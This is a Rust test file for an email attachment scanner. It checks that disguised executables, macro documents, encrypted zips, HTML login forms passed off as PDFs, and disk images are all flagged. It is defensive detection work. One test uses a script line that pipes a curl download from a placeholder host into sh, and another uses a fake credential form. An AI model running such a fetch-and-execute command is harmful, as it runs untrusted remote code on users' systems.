//! The content scanner on what attachments are, not what they are called: each file here is
//! built at run time in its real format (an ELF from the test binary itself, zips and OLE2
//! files written by the same crates other tools read them with), attached under a name and a
//! declared type, and the findings are compared whole.

mod support;

use std::io::{Cursor, Write};

use spoolsift::spool::MessageView;
use spoolsift::stages::content::{ContentConfig, ContentScanner};
use spoolsift::stages::{Stage, Verdict};

/// The `rule` of every finding for a message with one attachment, in order; the scanner's own
/// decoding and mail-parser's full parse must agree.
fn rules_for(name: &str, ctype: &str, bytes: &[u8]) -> Vec<String> {
    rules_with(&ContentConfig::default(), Some(name), ctype, bytes)
}

fn rules_with(config: &ContentConfig, name: Option<&str>, ctype: &str, bytes: &[u8]) -> Vec<String> {
    let scanner = ContentScanner::new(config.clone()).unwrap();
    let (header, body) = support::made::with_attachment(name, ctype, bytes);
    let view = MessageView::new(&header, &body);
    let data = view.to_vec().unwrap();
    let at = data.len() - body.len();
    assert_eq!(scanner.scan_message(&data, at, false), scanner.scan_message(&data, at, true), "own vs full parse");
    let r = scanner.check(&view).unwrap();
    let rules: Vec<String> = r.details.iter().filter(|(k, _)| k == "rule").map(|(_, v)| v.clone()).collect();
    assert_eq!(r.verdict == Verdict::Clean, rules.is_empty(), "{r:?}");
    rules
}

/// The first 4 KiB of this test's own executable: an ELF header and then some.
fn elf() -> Vec<u8> {
    let mut b = std::fs::read(std::env::current_exe().unwrap()).unwrap();
    b.truncate(4096);
    assert!(b.starts_with(b"\x7FELF"));
    b
}

fn zip_of(files: &[(&str, &[u8])], password: Option<&[u8]>) -> Vec<u8> {
    use zip::unstable::write::FileOptionsExt;
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in files {
        let mut options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        if let Some(p) = password {
            options = options.with_deprecated_encryption(p).unwrap();
        }
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// An OLE2 compound file with a `WordDocument` stream, and Word's macro storage if `macros`.
fn ole2_doc(macros: bool) -> Vec<u8> {
    let mut f = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    f.create_stream("/WordDocument").unwrap().write_all(&[0xEC, 0xA5, 0xC1, 0x00]).unwrap();
    if macros {
        f.create_storage_all("/Macros/VBA").unwrap();
        f.create_stream("/Macros/VBA/_VBA_PROJECT").unwrap().write_all(&[0xCC, 0x61, 0xFF, 0xFF]).unwrap();
        f.create_stream("/Macros/VBA/dir").unwrap().write_all(b"attribute vb_name").unwrap();
    }
    f.flush().unwrap();
    f.into_inner().into_inner()
}

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

#[test]
fn an_elf_named_and_declared_pdf_is_an_executable_in_disguise() {
    assert_eq!(
        rules_for("invoice.pdf", "application/pdf", &elf()),
        ["filetype:executable:elf", "mismatch:pdf:elf", "mismatch:application/pdf:elf"]
    );
    // Declared as nothing in particular, named as nothing in particular: still an executable.
    assert_eq!(rules_for("data.bin", "application/octet-stream", &elf()), ["filetype:executable:elf"]);
    // Without the rules for it, nothing.
    let off = ContentConfig { replace_builtin: true, block_type_mismatch: false, ..ContentConfig::default() };
    assert_eq!(rules_with(&off, Some("invoice.pdf"), "application/pdf", &elf()), Vec::<String>::new());
}

#[test]
fn a_script_with_a_shebang_is_an_executable_but_a_body_that_starts_with_one_is_text() {
    let script = b"#!/bin/sh\ncurl -s https://x.example/p | sh\n";
    assert_eq!(rules_for("readme.txt", "text/plain", script), ["filetype:executable:script"]);
    // The message's own text: no name, declared text.
    assert_eq!(rules_with(&ContentConfig::default(), None, "text/plain", script), Vec::<String>::new());
}

#[test]
fn macro_documents_in_both_formats() {
    let docm = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", &ole2_doc(true)),
        ],
        None,
    );
    assert_eq!(
        rules_for("report.docm", "application/vnd.ms-word.document.macroEnabled.12", &docm),
        ["filetype:macro-document:ooxml-vba"]
    );
    assert_eq!(rules_for("report.doc", "application/msword", &ole2_doc(true)), ["filetype:macro-document:ole2-vba"]);
    // The same documents without macros pass.
    let docx = zip_of(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")], None);
    let docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    assert_eq!(rules_for("report.docx", docx_type, &docx), Vec::<String>::new());
    assert_eq!(rules_for("report.doc", "application/msword", &ole2_doc(false)), Vec::<String>::new());
}

#[test]
fn an_encrypted_zip_is_a_finding_and_a_plain_one_is_not() {
    let text: &[u8] = b"quarterly figures\n";
    let locked = zip_of(&[("figures.txt", text)], Some(b"secret"));
    assert_eq!(rules_for("figures.zip", "application/zip", &locked), ["filetype:encrypted-archive:zip"]);
    assert_eq!(
        rules_for("figures.zip", "application/zip", &zip_of(&[("figures.txt", text)], None)),
        Vec::<String>::new()
    );
    // Where password-protected zips are business as usual.
    let allowed: ContentConfig = toml::from_str("allowed_file_types = [\"encrypted-archive\"]").unwrap();
    assert_eq!(rules_with(&allowed, Some("figures.zip"), "application/zip", &locked), Vec::<String>::new());
}

#[test]
fn a_plain_pdf_passes_and_a_pdf_that_is_html_does_not() {
    assert_eq!(rules_for("invoice.pdf", "application/pdf", PDF), Vec::<String>::new());
    let page = b"<html><body><form action=\"https://login.example/\"><input name=pw></form></body></html>";
    assert_eq!(
        rules_for("invoice.pdf", "application/pdf", page),
        ["filetype:html-form:form", "mismatch:pdf:html", "mismatch:application/pdf:html"]
    );
    assert_eq!(rules_for("login.html", "text/html", page), ["filetype:html-form:form"]);
    assert_eq!(rules_for("news.html", "text/html", b"<html><body><p>News</p></body></html>"), Vec::<String>::new());
}

#[test]
fn disk_images_and_images_under_each_others_names() {
    let mut iso = vec![0u8; 0x8800];
    iso[0x8000] = 1;
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    assert_eq!(
        rules_for("scan.img.pdf", "application/pdf", &iso),
        ["filetype:disk-image:iso9660", "mismatch:pdf:disk-image", "mismatch:application/pdf:disk-image"]
    );
    // A PNG saved as .jpg is a mistake, not a disguise.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
    assert_eq!(rules_for("photo.jpg", "image/jpeg", png), Vec::<String>::new());
}
